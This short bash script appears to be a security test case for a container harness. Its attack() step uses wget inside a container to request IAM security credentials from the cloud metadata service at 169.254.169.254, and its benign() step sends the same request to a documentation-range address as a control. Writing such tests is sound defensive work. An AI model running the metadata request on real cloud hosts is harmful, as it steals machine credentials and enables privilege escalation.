#!/usr/bin/env bash
# A container asks the metadata service of its cloud for the credentials of the machine.
. "$(dirname "$0")/../lib/harness.sh"

build() {
    image api:2.1 api 8080
    answer 80
}
prepare() {
    container api api:2.1
    link api
}

attack() {
    docker exec api wget -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/
}

# The same question to another machine.
benign() {
    docker exec api wget -q -O - http://203.0.113.10/latest/meta-data/iam/security-credentials/
}

record_container api
